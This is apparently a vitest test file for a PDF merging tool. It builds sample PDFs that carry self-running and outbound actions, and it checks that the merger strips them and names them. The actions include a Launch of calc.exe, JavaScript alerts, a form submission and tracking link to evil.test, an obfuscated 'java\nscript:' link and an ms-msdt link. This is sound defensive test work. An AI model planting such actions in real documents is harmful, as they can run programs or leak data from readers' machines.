import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, test } from 'vitest';
import { allPages, mergeSources, toSource } from '../fixtures/merge-sources.ts';

const folder = mkdtempSync(join(tmpdir(), 'sundry-actions-'));
afterAll(() => {
  rmSync(folder, { recursive: true });
});

/**
 * Makes a document with everything by which a PDF can act by itself or lead outside, beside harmless parts.
 */
function makeActingDocument(): Uint8Array<ArrayBuffer> {
  const objects = [
    '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(calc.exe)>>/AA<</WC<</S/JavaScript/JS(app.alert(2))>>>>/AcroForm<</Fields[8 0 R]>>/Outlines 9 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 300 400]>>',
    '<</Type/Page/Parent 2 0 R/Resources<</Font<</AA 11 0 R>>>>/AA<</O<</S/URI/URI(http://evil.test/track)>>/C 12 0 R>>/Annots[4 0 R 5 0 R 6 0 R 7 0 R 8 0 R]>>',
    '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.org/)>>>>',
    '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:alert)>>>>',
    '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>',
    '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/D[3 0 R/Fit]/Next[<</S/ImportData/F(x.fdf)>>]>>>>',
    '<</Type/Annot/Subtype/Widget/FT/Btn/T(send)/Rect[0 0 9 9]/P 3 0 R/A<</S/SubmitForm/F<</FS/URL/F(http://evil.test/form)>>>>/AA<</K<</S/JavaScript/JS(app.alert(3))>>>>>>',
    '<</Type/Outlines/First 10 0 R/Last 10 0 R/Count 1>>',
    '<</Title(start)/Parent 9 0 R/A<</S/Launch/F(calc.exe)>>>>',
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    '<</S/JavaScript/JS(app.alert(4))>>',
  ];
  const body = objects.map((object, index) => `${index + 1} 0 obj${object}endobj\n`).join('');
  return new TextEncoder().encode(`%PDF-1.7\n${body}trailer<</Size 13/Root 1 0 R>>\n%%EOF\n`);
}

/** A link to the web that then jumps to page 2, and to page 3. */
function makeJumpingDocument(): Uint8Array<ArrayBuffer> {
  const jump = (page: number) => `<</S/GoTo/D[${page} 0 R/Fit]>>`;
  const objects = [
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R 4 0 R 5 0 R]/Count 3/MediaBox[0 0 300 400]>>',
    '<</Type/Page/Parent 2 0 R/Annots[6 0 R]>>',
    '<</Type/Page/Parent 2 0 R>>',
    '<</Type/Page/Parent 2 0 R>>',
    `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.org/)/Next[${jump(4)}${jump(5)}]>>>>`,
  ];
  const body = objects.map((object, index) => `${index + 1} 0 obj${object}endobj\n`).join('');
  return new TextEncoder().encode(`%PDF-1.7\n${body}trailer<</Size 7/Root 1 0 R>>\n%%EOF\n`);
}

test('of the actions that follow one another, a jump to a page that was left out goes, with a note', async () => {
  const source = await toSource('jumping', makeJumpingDocument());
  const pages = allPages(source).filter((_, index) => index !== 1);
  const { bytes, notes } = await mergeSources([source], pages, {});
  const path = join(folder, 'jumping.pdf');
  writeFileSync(path, bytes);
  const objects = execFileSync('qpdf', ['--json', '--json-key=qpdf', path], { encoding: 'utf8' });
  expect(objects.match(/"\/GoTo"/g)).toHaveLength(1);
  expect(objects).toContain('https://example.org/');
  expect(notes.map(({ text }) => text)).toContain(
    'Actions of pages, links, bookmarks and fields: 1 page jump.',
  );
});

test('what a file does by itself, and what leads out of it, is dropped and named; links to pages and the web stay', async () => {
  const source = await toSource('acting', makeActingDocument());
  const { bytes, notes } = await mergeSources([source], allPages(source), {});
  const path = join(folder, 'acting.pdf');
  writeFileSync(path, bytes);
  const objects = execFileSync('qpdf', ['--json', '--json-key=qpdf', path], { encoding: 'utf8' });
  for (const kind of ['JavaScript', 'Launch', 'SubmitForm', 'ImportData', 'GoToR', 'JS', 'OpenAction']) {
    expect(objects).not.toContain(`"/${kind}"`);
  }
  expect(objects).not.toContain('evil.test');
  expect(objects).not.toContain('javascript:');
  // The one that is left is the name of a font.
  expect(objects.match(/"\/AA"/g)).toHaveLength(1);
  expect(objects).toContain('https://example.org/');
  expect(objects).toContain('"/GoTo"');
  const note = notes.find(({ text }) => text.startsWith('Actions of pages'));
  expect(note?.level).toBe('lost');
  for (const part of [
    '1 web request',
    '3 scripts',
    '1 file link',
    '1 form submission',
    '1 program start',
    '1 data import',
  ]) {
    expect(note?.text).toContain(part);
  }
});

test.each([
  // ISO 32000-2, 12.6.4.8: a URI action may hold any URI.
  ['www.example.org', undefined],
  ['tel:+49123', undefined],
  ['ftp://x.example/a', undefined],
  ['HTTP://EXAMPLE.ORG', undefined],
  ['urn:isbn:0451450523', undefined],
  ['//cdn.example/a', undefined],
  ['#part', undefined],
  ['java\nscript:alert', '1 script'],
  ['file:///C:/x.pdf', '1 file link'],
  ['page2.html', '1 file link'],
  ['../a.pdf#page=2', '1 file link'],
  ['ms-msdt:/id', '1 program start'],
])('a link to %j', async (address, dropped) => {
  const objects = [
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 300 400]>>',
    `<</Type/Page/Parent 2 0 R/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(${address})>>>>]>>`,
  ];
  const body = objects.map((object, index) => `${index + 1} 0 obj${object}endobj\n`).join('');
  const document = new TextEncoder().encode(`%PDF-1.7\n${body}trailer<</Size 4/Root 1 0 R>>\n%%EOF\n`);
  const source = await toSource('linked', document);
  const { bytes, notes } = await mergeSources([source], allPages(source), {});
  const path = join(folder, 'linked.pdf');
  writeFileSync(path, bytes);
  const made = execFileSync('qpdf', ['--json', '--json-key=qpdf', path], { encoding: 'utf8' });
  expect(made.includes('"/URI"')).toBe(dropped === undefined);
  const note = notes.find(({ text }) => text.startsWith('Actions of pages'));
  expect(note?.text.includes(dropped ?? '')).toBe(dropped === undefined ? undefined : true);
});
